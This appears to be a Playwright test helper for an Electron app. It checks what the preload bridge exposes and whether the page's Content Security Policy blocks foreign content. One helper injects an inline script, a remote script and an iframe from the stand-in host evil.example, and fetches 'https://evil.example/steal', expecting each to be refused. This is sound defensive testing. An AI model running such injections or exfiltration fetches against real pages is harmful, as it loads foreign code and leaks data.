/** Questions put to the window's page, the same for the stand-in and for real Electron. Run in the page. */
import type { Page } from 'playwright-core'
import { until } from '../../builders/wait'

/** What the preload gives the page, as the page sees it. */
interface Bridge {
  readonly relook: {
    readonly open: () => {
      readonly send: (message: unknown) => void
      readonly onMessage: (listener: (message: unknown) => void) => void
    }
  }
}

/** Asks the host over the bridge; the whole reply. For a stream: its first item. */
export function ask(page: Page, name: string, input: object = {}): Promise<unknown> {
  return page.evaluate(
    ([n, i]) =>
      new Promise((done) => {
        const port = (globalThis as unknown as Bridge).relook.open()
        port.onMessage(done)
        port.send({ t: 'ask', id: 1, name: n, input: i })
      }),
    [name, input] as const,
  )
}

/** What of the shell's side the page can touch. */
export function exposed(page: Page) {
  return page.evaluate(() => {
    const { relook } = globalThis as unknown as Bridge
    const inside = ['require', 'process', 'module', 'ipcRenderer', 'electron', 'Buffer']
    return {
      keys: Object.keys(relook),
      frozen: Object.isFrozen(relook),
      inside: inside.filter((name) => name in globalThis),
    }
  })
}

/** Tries to run foreign script and to reach foreign places; tells which rules of the policy stopped it. */
export async function tryForeignThings(page: Page) {
  await page.evaluate(async () => {
    const seen = new Set<string>()
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.add(event.effectiveDirective)
      document.documentElement.dataset['refused'] = [...seen].sort().join()
    })
    const inline = document.createElement('script')
    inline.textContent = 'globalThis.hacked = true'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(inline, foreign, frame)
    await fetch('https://evil.example/steal').catch(() => undefined)
  })
  const refused = () => page.evaluate(() => document.documentElement.dataset['refused']?.split(',') ?? [])
  await until(async () => (await refused()).length === allRefused.seen.length, 'all to be refused')
  return { seen: await refused(), hacked: await page.evaluate(() => 'hacked' in globalThis) }
}

/** What `tryForeignThings` has to give. */
export const allRefused = { seen: ['connect-src', 'frame-src', 'script-src-elem'], hacked: false }
